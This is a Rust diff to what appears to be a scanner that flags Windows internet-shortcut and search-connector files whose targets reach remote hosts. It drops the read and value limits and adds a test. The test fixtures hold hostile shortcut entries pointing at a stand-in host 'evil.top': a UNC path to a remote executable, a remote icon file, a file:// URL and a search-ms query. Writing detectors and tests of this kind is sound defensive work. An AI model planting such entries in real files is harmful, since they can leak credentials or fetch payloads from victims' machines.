@@ -13,10 +13,6 @@ use uts58::{Target, reference};
 /// Extensions of such files, up to a hyphen.
 const EXTENSIONS: [&str; 5] = ["url", "website", "search", "library", "searchconnector"];
 
-/// Bytes of such a file that are read, and values of it that are judged.
-const FILE_BYTES: usize = 1 << 16;
-const VALUES: usize = 64;
-
 impl OpenReading<'_> {
     /// Reports what such a file reaches, in its first reading.
     pub(super) fn shortcut(
@@ -29,14 +25,15 @@ impl OpenReading<'_> {
             return;
         }
         let text = self.reading.text.as_str();
-        let text = text.get(..text.floor_char_boundary(FILE_BYTES)).unwrap_or_default();
         if !budget.spend(Stage::Reading, text.len() as u64) {
             return;
         }
-        for value in values(text).filter(|value| may_reach(value)).take(VALUES) {
+        for value in values(text).filter(|value| may_reach(value)) {
             let mut targets = reference::parse(value, 0..value.len());
-            let Some(Target::Dangerous { host, .. }) = targets.next() else { continue };
-            let judged = judge.followed(value, host);
+            let judged = match targets.next() {
+                Some(Target::Dangerous { host, .. }) => judge.followed(value, host),
+                _ => None,
+            };
             if let Some(judged) = judged
                 && found.candidates.len() < budget.findings
             {
@@ -89,6 +86,7 @@ mod tests {
             "URL=\\\\evil.top@80\\share\\invoice.exe",
             "BASEURL=https://fine.com/\r\nIconFile=\\\\evil.top\\x.ico",
             "WorkingDirectory=\\\\evil.top\\x\r\nURL=C:\\x",
+            &format!("{}URL=file://evil.top/x", "Key=a:b\r\n".repeat(20_000)),
             "url = search-ms:query=x&crumb=location:\\\\evil.top\\x",
         ] {
             let file = format!("[InternetShortcut]\r\n{target}\r\n");
